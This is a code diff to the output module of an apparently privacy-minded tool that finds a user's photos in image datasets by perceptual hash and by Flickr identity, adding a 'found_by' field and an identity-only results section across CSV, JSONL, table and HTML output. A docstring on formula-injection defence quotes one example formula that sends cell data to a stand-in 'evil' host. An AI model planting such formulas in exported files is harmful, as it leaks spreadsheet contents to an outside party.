@@ -56,8 +56,14 @@ __all__ = [
 #: ``query``   the photo's path as given on the command line (str);
 #: ``hash``    its perceptual hash as hex (str), or null if it could not be read;
 #: ``matches`` list of match objects (keys in :data:`JSONL_MATCH_FIELDS`, plus ``extra``
-#:             and ``evidence`` objects when non-empty), possibly empty;
+#:             and ``evidence`` objects when non-empty, and ``found_by`` when the search
+#:             says how each match was found), possibly empty;
 #: ``error``   null, or a short human reason why the photo could not be checked.
+#:
+#: A search given a Flickr identity (``--flickr-user``/``--nsid``) ends with one more object whose
+#: ``query`` and ``hash`` are null: its ``matches`` are the items listed under that identity that no
+#: photo matched (``found_by`` "identity", ``distance`` null, the identity and the item's status in
+#: ``evidence``). The photos' matches then say ``found_by`` "content" or "both".
 JSONL_FIELDS = ("query", "hash", "matches", "error")
 
 #: Keys of each object in ``matches`` (``Match.to_json()``); ``distance`` is the Hamming
@@ -113,9 +119,12 @@ def write_jsonl(results: Iterable[QueryResult], fp: IO[str]) -> None:
 #: Columns of :func:`write_csv`, in order. One row per match; ``error`` is filled (and the
 #: match columns empty) on the single row written for a photo that could not be checked.
 CSV_COLUMNS = (
-    "query", "query_hash", "dataset", "key", "distance", "url", "page_url", "path",
+    "query", "query_hash", "dataset", "key", "distance", "found_by", "url", "page_url", "path",
     "owner", "license", "title", "width", "height", "item_hash", "error",
 )
+
+#: What stands for the query of the items found by Flickr identity only (CSV, table).
+IDENTITY_QUERY = "(identity)"
 
 _FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
 
@@ -139,7 +148,9 @@ def write_csv(results: Iterable[QueryResult], fp: IO[str]) -> None:
     """Write a header (:data:`CSV_COLUMNS`) then one row per match.
 
     A photo without matches writes no row; a photo that could not be checked writes one
-    row with ``query``, ``query_hash`` and ``error`` filled.
+    row with ``query``, ``query_hash`` and ``error`` filled. ``found_by`` says how a match was
+    found (content, identity, both; empty when the search did not say); the items found by Flickr
+    identity only have ``query`` "(identity)" and no distance.
 
     Formula injection: dataset metadata is untrusted, and a cell such as
     ``=HYPERLINK("http://evil/?"&A1)`` would run as a formula when the CSV is opened in a
@@ -160,7 +171,8 @@ def write_csv(results: Iterable[QueryResult], fp: IO[str]) -> None:
             it = m.item
             w.writerow([
                 _csv_cell(v) for v in (
-                    r.query, r.hash, it.dataset, it.key, m.distance, it.url, it.page_url,
+                    r.query if r.query is not None else IDENTITY_QUERY, r.hash, it.dataset, it.key, m.distance,
+                    m.found_by, it.url, it.page_url,
                     it.path, it.owner, it.license, it.title, it.width, it.height, it.hash, None,
                 )
             ])
@@ -204,10 +216,11 @@ def _name(query: str) -> str:
 
 
 def _sorted_matches(matches: list[Match]) -> list[Match]:
-    return sorted(matches, key=lambda m: m.distance)  # stable: ties keep engine order
+    # stable: ties keep engine order; items found by identity only (no distance) last
+    return sorted(matches, key=lambda m: (m.distance is None, m.distance or 0))
 
 
-def _match_table(show_header: bool, wide: bool = True) -> Table:
+def _match_table(show_header: bool, wide: bool = True, found_by: bool = False) -> Table:
     # Fixed ratios + expand: every per-query table gets the same column widths, so the
     # successive tables line up like one table while still printing as results arrive.
     t = Table(box=box.SIMPLE_HEAD, show_header=show_header,
@@ -215,6 +228,8 @@ def _match_table(show_header: bool, wide: bool = True) -> Table:
     t.add_column("photo", ratio=3, overflow="fold")
     t.add_column("match (dataset/key)", ratio=3, overflow="fold")
     t.add_column("dist", justify="right", ratio=1, min_width=4, no_wrap=True)
+    if found_by:
+        t.add_column("found by", width=8, no_wrap=True)
     if wide:  # narrow terminals: owner and licence are in --json/--csv/--html
         t.add_column("owner", ratio=2, overflow="fold")
         t.add_column("licence", ratio=2, overflow="fold")
@@ -222,7 +237,8 @@ def _match_table(show_header: bool, wide: bool = True) -> Table:
     return t
 
 
-def print_table(results: Iterable[QueryResult], console: Console, *, show_unmatched: bool = False) -> None:
+def print_table(results: Iterable[QueryResult], console: Console, *, show_unmatched: bool = False,
+                found_by: bool = False) -> None:
     """Print matches as a table, one block per photo as soon as its result arrives.
 
     Columns: photo file name, dataset/key, distance, owner, licence, URL. Photos that
@@ -240,7 +256,7 @@ def print_table(results: Iterable[QueryResult], console: Console, *, show_unmatc
                 console.print(Text(f"  {_visible(_name(r.query))}: no match", style="dim"), soft_wrap=True)
             continue
         wide = console.width >= 120
-        t = _match_table(show_header=not header_done, wide=wide)
+        t = _match_table(show_header=not header_done, wide=wide, found_by=found_by)
         header_done = True
         for i, m in enumerate(_sorted_matches(r.matches)):
             it = m.item
@@ -249,6 +265,8 @@ def print_table(results: Iterable[QueryResult], console: Console, *, show_unmatc
                 Text(f"{_visible(it.dataset)}/{_visible(it.key)}"),
                 Text(str(m.distance), style="green" if m.distance == 0 else ""),
             ]
+            if found_by:  # a column of its own when the search joined identity with content
+                cells.append(Text(_visible(m.found_by), style="bold" if m.found_by == "both" else ""))
             if wide:
                 cells += [Text(_visible(it.owner)), Text(_visible(it.license))]
             cells.append(Text(_visible(it.url or it.page_url or it.path), style="cyan"))
@@ -256,16 +274,49 @@ def print_table(results: Iterable[QueryResult], console: Console, *, show_unmatc
         console.print(t)
 
 
+def print_identity(result: QueryResult, console: Console, who: str) -> None:
+    """Print the items listed under ``who`` (a Flickr identity) that no photo matched: ``result`` is
+    :meth:`matcher.identities.IdentityJoin.remainder`. Failed items (dead links: still listed) say why."""
+    n = len(result.matches)
+    if not n:
+        console.print(Text(f"{_visible(who)}: no other item is listed under this identity", style="dim"),
+                      soft_wrap=True)
+        return
+    console.print(Text(f"Listed under {_visible(who)} but not found among your photos "
+                       f"({n:,} item{'' if n == 1 else 's'}):", style="bold"), soft_wrap=True)
+    wide = console.width >= 120
+    t = Table(box=box.SIMPLE_HEAD, show_edge=False, expand=True, pad_edge=False, header_style="bold")
+    t.add_column("match (dataset/key)", ratio=3, overflow="fold")
+    t.add_column("status", ratio=2, overflow="fold")
+    if wide:
+        t.add_column("owner", ratio=2, overflow="fold")
+        t.add_column("licence", ratio=2, overflow="fold")
+    t.add_column("url", ratio=5, overflow="fold")
+    for m in result.matches:
+        it = m.item
+        status = "ok" if it.status == "ok" else f"failed: {it.error or 'unknown'}"
+        cells = [Text(f"{_visible(it.dataset)}/{_visible(it.key)}"),
+                 Text(_visible(status), style="" if it.status == "ok" else "yellow")]
+        if wide:
+            cells += [Text(_visible(it.owner)), Text(_visible(it.license))]
+        cells.append(Text(_visible(it.url or it.page_url or it.path), style="cyan"))
+        t.add_row(*cells)
+    console.print(t)
+
+
 # --------------------------------------------------------------------------- summary
 
 def summarise(results: Iterable[QueryResult]) -> dict[str, Any]:
     """Counts for the CLI: ``{"photos", "with_matches", "matches", "errors", "by_dataset"}``.
 
-    ``by_dataset`` maps each dataset name to its number of matches, most first.
+    ``by_dataset`` maps each dataset name to its number of matches, most first. The items found
+    by Flickr identity only (a result whose ``query`` is None) are not a photo: not counted.
     """
     photos = with_matches = matches = errors = 0
     by_dataset: Counter[str] = Counter()
     for r in results:
+        if r.query is None:
+            continue
         photos += 1
         if r.matches:
             with_matches += 1
@@ -428,6 +479,8 @@ def _kv_table(rows: Iterable[tuple[str, str]]) -> str:
 
 
 def _summary_html(results: list[QueryResult], title: str, index_info: dict | None, generated: str) -> Iterator[str]:
+    identity = [r for r in results if r.query is None]  # the items found by Flickr identity only
+    results = [r for r in results if r.query is not None]
     s = summarise(results)
     yield f"<h1>{_h(title)}</h1>"
     yield f'<div class="sub">generated {_h(generated)}</div>'
@@ -439,6 +492,9 @@ def _summary_html(results: list[QueryResult], title: str, index_info: dict | Non
         ("unreadable photos", f"{s['errors']:,}"),
     ]
     rows += [(f"matches in {name}", f"{n:,}") for name, n in s["by_dataset"].items()]
+    if identity:
+        rows.append(("listed under your Flickr identity, not found among your photos",
+                     f"{sum(len(r.matches) for r in identity):,}"))
     rows.append(("generated", _h(generated)))
     for k, v in (index_info or {}).items():
         rows.append((str(k), _value(v)))
@@ -487,8 +543,10 @@ def _match_html(m: Match, thumbs: _Thumbs) -> str:
     else:
         caption = "dataset copy"
     cls = "dist dist0" if m.distance == 0 else "dist"
-    rows: list[tuple[str, str]] = [
-        ("distance", f'<span class="{cls}">{_h(m.distance)}</span>'),
+    rows: list[tuple[str, str]] = [("distance", f'<span class="{cls}">{_h(m.distance)}</span>')] if m.distance is not None else []
+    if m.found_by:
+        rows.append(("found by", _h(m.found_by)))
+    rows += [
         ("dataset", _h(it.dataset)),
         ("key", f"<code>{_h(it.key)}</code>"),
     ]
@@ -535,6 +593,17 @@ def _photo_html(r: QueryResult, thumbs: _Thumbs, n: int) -> str:
     )
 
 
+def _identity_html(r: QueryResult, thumbs: _Thumbs) -> str:
+    """The items found by Flickr identity only, in a section of their own."""
+    n = len(r.matches)
+    head = (f'<h2 id="identity">Listed under your Flickr identity, not found among your photos</h2>'
+            f'<div class="sub">{n:,} item{"" if n == 1 else "s"} · found by identity (the dataset lists the photo\'s '
+            "Flickr id or owner), not by comparing pictures · a failed item is a link that no longer worked when "
+            "the dataset was indexed: the photo is listed all the same</div>")
+    matches = "".join(_match_html(m, thumbs) for m in r.matches)
+    return f'<section class="card">{head}<div class="photo"><div class="matches">{matches}</div></div></section>'
+
+
 def _html_chunks(results: list[QueryResult], title: str, index_info: dict | None, thumb_size: int) -> Iterator[str]:
     generated = datetime.now(timezone.utc).strftime("%Y-%m-%d %H:%M:%S UTC")
     yield (
@@ -549,7 +618,9 @@ def _html_chunks(results: list[QueryResult], title: str, index_info: dict | None
     yield from _summary_html(results, title, index_info, generated)
     thumbs = _Thumbs(thumb_size)
     for n, r in enumerate(results, 1):
-        if r.matches:
+        if r.query is None:
+            yield _identity_html(r, thumbs) + "\n"
+        elif r.matches:
             yield _photo_html(r, thumbs, n) + "\n"
     yield "</main>\n</body>\n</html>\n"
 
